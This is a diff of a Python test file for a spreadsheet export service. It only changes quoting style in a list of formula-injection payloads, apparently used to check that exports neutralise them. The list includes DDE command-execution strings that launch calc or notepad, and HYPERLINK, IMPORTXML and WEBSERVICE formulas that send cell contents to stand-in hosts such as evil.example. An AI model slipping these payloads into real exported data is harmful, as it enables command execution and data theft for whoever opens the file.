@@ -14,17 +14,17 @@ from dermadesk.services.rfm_export import score_transactions, write_rows
 
 BASES = [
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "=1+1",
     "+1+1",
     "-1+1",
     "@SUM(1,1)",
-    "=IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")",
-    "=WEBSERVICE(\"http://x.example\")",
+    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
+    '=WEBSERVICE("http://x.example")',
     "-2+3+cmd|' /C calc'!A0",
     "@cmd|'/c notepad'!_xlbgnm.A1",
     "+cmd|' /C calc'!A0",
-    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+    '=DDE("cmd";"/C calc";"!A0")',
     "\t=1+1",
     "\r=1+1",
     "=0x41",
@@ -32,7 +32,7 @@ BASES = [
     "+A1*2",
     "@A1",
     "==1",
-    "=\"a\"&\"b\"",
+    '="a"&"b"',
 ]
 PREFIXES = ["", " ", "  ", "\t", "\r"]
 FULL_WIDTH = ["\uff1d1+1", "\uff0bcmd", "\uff0dA1", "\uff20SUM(1)"]
